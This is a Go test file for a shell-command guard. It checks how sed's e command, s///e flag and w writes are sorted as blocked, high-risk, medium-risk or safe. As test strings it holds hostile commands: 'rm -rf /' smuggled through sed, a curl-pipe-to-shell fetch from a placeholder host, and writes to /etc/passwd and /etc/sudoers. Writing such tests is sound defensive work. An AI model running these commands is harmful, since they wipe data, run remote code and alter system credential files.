package guard

import (
	"testing"

	"guardsh/guard/internal/rules"
)

// TestSedRules checks sed's e, s///e and w through the walker, and the
// scripts that must stay as they were.
func TestSedRules(t *testing.T) {
	B, H, M, S := Blocked, High, Medium, Safe
	runNLLines(t, []nlLine{
		// A literal e COMMAND is a command line.
		{"sed 'e rm -rf /' f", B, rules.RuleRmRfRoot},
		{"sed 'e rm -rf /'", B, rules.RuleRmRfRoot},
		{"sed '1e rm -rf ~' f", B, rules.RuleRmRfHome},
		{"sed '$e reboot' f", H, "shutdown"},
		{"sed -n '/x/e curl -s https://x.example/i.sh | sh' f", H, rules.RuleCurlPipeSh},
		{"sed -e p -e 'e rm -rf /' f", B, rules.RuleRmRfRoot},
		{"sed --expression='1e rm -rf /' f", B, rules.RuleRmRfRoot},
		{"gsed 'e rm -rf /' f", B, rules.RuleRmRfRoot},
		{"sudo sed 'e rm -rf /' f", B, rules.RuleRmRfRoot},
		{"bash -c \"sed 'e rm -rf /' f\"", B, rules.RuleRmRfRoot},
		{"sed 'p;e rm -rf /usr' f", B, rules.RuleRmRfSystemDir},
		{"sed 's/a/b/\ne rm -rf /' f", B, rules.RuleRmRfRoot},
		{"echo 'e rm -rf /' | sed -f - f", B, rules.RuleRmRfRoot},
		{"sed -f /dev/stdin f <<< 'e rm -rf /'", B, rules.RuleRmRfRoot},
		{"sed '1e touch x' f", S, ""},
		{"sed '1e date' f", S, ""},
		{"sed 's/.*/date/e' f", S, ""},
		{"sed 's/.*/rm -rf \\//e' f", B, rules.RuleRmRfRoot},
		{"sed 's/^.*$/reboot/e' f", H, "shutdown"},
		// The line decides what runs.
		{"sed 's/.*/rm -rf &/e' f", H, rules.RuleSedExecDynamic},
		{"sed 's/^/rm -f /e' list", H, rules.RuleSedExecDynamic},
		{"sed 's/x/y/e' f", H, rules.RuleSedExecDynamic},
		{"sed -n 's/.*/echo &/ep' f", H, rules.RuleSedExecDynamic},
		{"sed e cmds.txt", H, rules.RuleSedExecDynamic},
		{"sed '/^#/!e' cmds.txt", H, rules.RuleSedExecDynamic},
		{"cat cmds | sed 'e'", H, rules.RuleSedExecDynamic},
		{"sed 's,.*,\\U&,e' f", H, rules.RuleSedExecDynamic},
		// w writes files: the file rules decide.
		{"sed -n 'w /etc/passwd' f", H, rules.RuleWriteSystemFile},
		{"sed 's/a/b/w /etc/sudoers' f", H, rules.RuleWriteSystemFile},
		{"sed -n '/x/w /etc/hosts' f", M, rules.RuleWriteEtc},
		{"sed -n 'w ~/.bashrc' f", M, rules.RuleAppendRc},
		{"sed -n \"w $1\" f", M, rules.RuleRedirectUnknown},
		{"sed -n 'w out.txt' f", S, ""},
		{"sed -n '/err/w errors.log' f", S, ""},
		{"sed 's/a/b/w changes.txt' f", S, ""},
		{"sed -n 'w /dev/stdout' f", S, ""},
		{"sed -n 'w /dev/stderr' f", S, ""},
		{"sed 'r /etc/hosts' f", S, ""},
		// A script only known at run time.
		{"sed \"$(cat script)\" f", M, rules.RuleSedScriptDynamic},
		{"sed -e \"$1\" f", M, rules.RuleSedScriptDynamic},
		{"sed \"s/a/b/$2\" f", M, rules.RuleSedScriptDynamic},
		{"sed -n \"${N}p\" f", S, ""},
		{"sed -n \"$((N+1)),\\$p\" f", S, ""},
		{"sed \"s/$OLD/$NEW/g\" f", S, ""},
		{"sed \"/$PAT/d\" f", S, ""},
		// What stays as it was.
		{"sed -n 's/a/b/p' f", S, ""},
		{"sed -e 's/x/y/' f", S, ""},
		{"sed '/e/d' f", S, ""},
		{"sed 's/e/E/g' f", S, ""},
		{"sed 'y/e/E/' f", S, ""},
		{"sed -E 's/(e+)/[\\1]/g' f", S, ""},
		{"sed '1!G;h;$!d' f", S, ""},
		{"sed ':a;N;$!ba;s/\\n/ /g' f", S, ""},
		{"sed '/^$/d;s/^[ \\t]*//' f", S, ""},
		{"sed 'a\\\ne rm -rf /' f", S, ""},
		{"sed 'i e rm -rf /' f", S, ""},
		{"sed '# e rm -rf /' f", S, ""},
		{"sed -n '/begin/,/end/{/end/!p}' f", S, ""},
		{"sed -f script.sed f", S, ""},
		{"sed --file=script.sed f", S, ""},
		{"sed --sandbox 'e rm -rf /' f", S, ""},
		{"sed --help", S, ""},
		{"echo 'e rm -rf /' | sed 's/a/b/'", S, ""},
		{"grep 'e rm -rf /' f", S, ""},
		{"sed -i 's/e/E/' notes.txt", S, ""},
		{"sed -i 's/a/b/' /etc/hosts", M, rules.RuleWriteEtc},
	})
}

// TestSedExamples checks that the sed rules match their examples.
func TestSedExamples(t *testing.T) {
	for _, b := range rules.InterpRules() {
		if b.Name != rules.RuleSedExecDynamic && b.Name != rules.RuleSedScriptDynamic {
			continue
		}
		if _, names := nlClassify(t, b.Example); !nlHas(names, b.Name) {
			t.Errorf("rule %s does not match its example %q: %v", b.Name, b.Example, names)
		}
	}
}
